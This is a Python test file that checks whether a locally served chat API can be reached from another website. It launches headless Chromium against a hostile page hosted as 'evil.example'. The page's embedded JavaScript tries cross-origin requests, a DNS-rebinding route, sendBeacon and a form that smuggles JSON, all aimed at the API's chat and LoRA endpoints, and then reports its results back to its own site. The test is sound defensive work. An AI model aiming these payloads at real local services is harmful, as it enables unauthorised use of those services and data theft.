"""A page of another site, in a real browser, against a served decomposer without a key: it can neither use nor read it.

The browser is Chromium, where the machine has one (on Debian: apt-get install chromium). A fake engine stands in the
model's place, so that it shows whether anything reached it.
"""

import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from langchain_divconq import ChatGGUF
from langchain_divconq.cli.http_api import Api, Server
from tests.unit_tests.fake_engine import FakeEngine, install

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
PAGE = """<!doctype html><form id=form method=post enctype="text/plain" target=frame></form><iframe name=frame></iframe>
<script>
const chat = JSON.stringify({messages: [{role: "user", content: "Hi"}]});
const results = {};
async function attempt(name, url, options) {
  try {
    const reply = await fetch(url, options);
    results[name] = reply.type === "opaque" ? "opaque" : `${reply.status} ${await reply.text()}`;
  } catch (error) { results[name] = "blocked"; }
}
async function all() {
  for (const base of BASES) {
    const chats = base + "/v1/chat/completions", json = {"Content-Type": "application/json"};
    await attempt(base + " json", chats, {method: "POST", body: chat, headers: json});
    await attempt(base + " text", chats, {method: "POST", body: chat});
    await attempt(base + " no-cors", chats, {method: "POST", body: chat, mode: "no-cors"});
    const blob = new Blob([chat], {type: "application/json"}), scale = '[{"id": 0, "scale": 0}]';
    await attempt(base + " blob", chats, {method: "POST", body: blob, mode: "no-cors"});
    await attempt(base + " lora", base + "/lora-adapters", {method: "POST", body: scale, mode: "no-cors"});
    await attempt(base + " models", base + "/v1/models", {});
    await attempt(base + " put", chats, {method: "PUT", body: chat, headers: json});
    navigator.sendBeacon(chats, new Blob([chat], {type: "text/plain"}));
    form.action = chats; form.innerHTML = `<input name='${chat.slice(0, -1)},"x":"' value='"}'>`; form.submit();
    await new Promise(resolve => setTimeout(resolve, 300));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
}
all();
</script>"""


class Site:
    """A site of its own: its page, and what the page reports."""

    def __init__(self, page: str) -> None:
        self.reported = threading.Event()
        self.report: dict[str, str] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.reported.set()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@contextmanager
def running(server: Any) -> Iterator[Any]:
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def open_page(url: str, folder: Path, rules: str) -> "subprocess.Popen[bytes]":
    assert BROWSER is not None
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    options += [f"--user-data-dir={folder}", f"--host-resolver-rules={rules}", "--no-proxy-server"]
    return subprocess.Popen([BROWSER, *options, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@pytest.mark.skipif(BROWSER is None, reason="there is no Chromium here (on Debian: apt-get install chromium)")
def test_a_page_of_another_site_neither_uses_nor_reads_a_served_decomposer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = FakeEngine(["x"])
    install(monkeypatch, engine)
    with running(Server(("127.0.0.1", 0), socket.AF_INET, Api([ChatGGUF()], "tiny", None))) as served:
        port = served.server_address[1]
        # By its address, and by a name of the page's own site that leads to this machine (DNS rebinding).
        bases = [f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://evil.example:{port}"]
        site = Site(PAGE.replace("BASES", json.dumps(bases)))
        with running(site.server):
            browser = open_page(f"http://evil.example:{site.port}/", tmp_path, "MAP evil.example 127.0.0.1")
            try:
                assert site.reported.wait(120), "the page did not come to its end"
            finally:
                browser.kill()
                browser.wait()
    assert len(site.report) == 7 * len(bases)
    assert set(site.report.values()) <= {"blocked", "opaque"}
    assert engine.requests == []
